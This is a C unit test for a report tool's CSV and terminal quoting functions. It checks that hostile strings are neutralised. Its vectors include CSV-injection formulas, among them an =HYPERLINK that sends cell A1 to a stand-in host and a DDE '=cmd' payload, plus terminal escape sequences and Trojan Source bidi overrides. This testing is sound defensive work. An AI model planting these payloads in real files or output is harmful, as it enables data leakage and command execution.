/*
 * tests/unit/test_report_quote.c - the quoting module of the csv and text
 * writers on hostile strings.
 *
 * Vectors: RFC 4180 section 2 (fields with commas, quotes, CR/LF are
 * quoted, quotes doubled); OWASP "CSV Injection" (cells starting with
 * = + - @ TAB CR, the =HYPERLINK and DDE payloads it lists in shape);
 * ECMA-48 control sequences (CSI "ESC [", OSC "ESC ]" with BEL, the 8-bit
 * CSI U+009B); CVE-2021-42574 "Trojan Source" bidirectional overrides;
 * invalid UTF-8 from the Unicode Standard chapter 3.9 (overlong, surrogate,
 * truncated, 0xFF).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "cvegate/error.h"
#include "lib/report/quote.h"

#define R "\xEF\xBF\xBD" /* U+FFFD */

typedef struct vec {
	const char *in;
	const char *out;
} vec;

static const vec csv_vectors[] = {
        {"plain", "plain"},
        {"", ""},
        {NULL, ""},
        {"caf\xC3\xA9 1.0", "caf\xC3\xA9 1.0"},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"\"", "\"\"\"\""},
        {"line1\nline2", "\"line1\nline2\""},
        {"cr\r\n", "\"cr\r\n\""},
        /* formula-leading cells: an apostrophe, and quoted */
        {"=1+2", "\"'=1+2\""},
        {"+1", "\"'+1\""},
        {"-1", "\"'-1\""},
        {"@SUM(A1:A2)", "\"'@SUM(A1:A2)\""},
        {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},
        {"=HYPERLINK(\"http://x.test/?\"&A1,\"click\")",
                "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\""},
        {"=cmd|' /C calc'!A0", "\"'=cmd|' /C calc'!A0\""},
        /* only the first character counts */
        {"a=b", "a=b"},
        {" =1", " =1"},
        {"1.0-r0", "1.0-r0"},
        /* the sanitiser runs first */
        {"\x1B[31mred", R "[31mred"},
        {"\xFF", R},
        {"\xC0\xAF", R R},
        {"\xED\xA0\x80", R R R},
        {"\xE2\x82", R},
        {"\x01=x", R "=x"},
        {"x\x7F", "x\x7F"},
};

static void test_csv(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(csv_vectors) / sizeof(csv_vectors[0]); i++) {
		cvg_buf b = CVG_BUF_INIT(0);
		assert_int_equal(cvg__buf_puts(&b, "<"), 0);
		assert_int_equal(cvg__quote_csv(&b, csv_vectors[i].in), 0);
		if (strcmp(b.ptr + 1, csv_vectors[i].out) != 0)
			fail_msg("vector %zu: got [%s], expected [%s]", i, b.ptr + 1,
			        csv_vectors[i].out);
		cvg__buf_dispose(&b);
	}
}

static const vec term_vectors[] = {
        {"plain", "plain"},
        {"", ""},
        {NULL, ""},
        {"caf\xC3\xA9", "caf\xC3\xA9"},
        /* ESC and BEL are forbidden in XML 1.0: the sanitiser replaces them */
        {"\x1B[2J\x1B[H", R "[2J" R "[H"},
        {"\x1B]0;pwned\x07", R "]0;pwned" R},
        /* what the sanitiser keeps, the terminal rule escapes */
        {"a\tb", "a\\x09b"},
        {"a\nb\r", "a\\x0ab\\x0d"},
        {"del\x7F", "del\\x7f"},
        {"\xC2\x9B"
         "31m",
                "\\u009b31m"},
        {"\xC2\x85next", "\\u0085next"},
        {"\xC2\xA0nbsp", "\xC2\xA0nbsp"},
        {"\xE2\x80\xAE"
         "evil",
                "\\u202eevil"},
        {"\xE2\x80\xAA\xE2\x81\xA6\xE2\x81\xA9", "\\u202a\\u2066\\u2069"},
        {"\xE2\x80\xA9", "\xE2\x80\xA9"},
        {"\xFF\xFE", R R},
        {"\xED\xA0\x80", R R R},
        {"ok\\x1b", "ok\\x1b"},
};

static void test_term(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(term_vectors) / sizeof(term_vectors[0]); i++) {
		cvg_buf b = CVG_BUF_INIT(0);
		assert_int_equal(cvg__buf_puts(&b, "<"), 0);
		assert_int_equal(cvg__quote_term(&b, term_vectors[i].in), 0);
		if (strcmp(b.ptr + 1, term_vectors[i].out) != 0)
			fail_msg("vector %zu: got [%s], expected [%s]", i, b.ptr + 1,
			        term_vectors[i].out);
		/* nothing that drives a terminal survives */
		assert_null(strchr(b.ptr, '\x1B'));
		assert_null(strstr(b.ptr, "\xC2\x9B"));
		cvg__buf_dispose(&b);
	}
}

/* A buffer at its maximum: CVG_ELIMIT, and what was there before stays. */
static void test_limit(void **state)
{
	cvg_buf b = CVG_BUF_INIT(16);

	(void)state;
	assert_int_equal(cvg__buf_puts(&b, "abc,"), 0);
	assert_int_equal(cvg__quote_csv(&b, "=0123456789"), CVG_ELIMIT);
	assert_string_equal(b.ptr, "abc,");
	assert_int_equal(cvg__quote_term(&b, "\t0123456789abcdef"), CVG_ELIMIT);
	assert_string_equal(b.ptr, "abc,");
	cvg__buf_dispose(&b);
}

static void test_width(void **state)
{
	(void)state;
	assert_int_equal(cvg__quote_width("abc", 3), 3);
	assert_int_equal(cvg__quote_width("caf\xC3\xA9", 5), 4);
	assert_int_equal(cvg__quote_width(R R, 6), 2);
	assert_int_equal(cvg__quote_width("", 0), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_csv),
	        cmocka_unit_test(test_term),
	        cmocka_unit_test(test_limit),
	        cmocka_unit_test(test_width),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
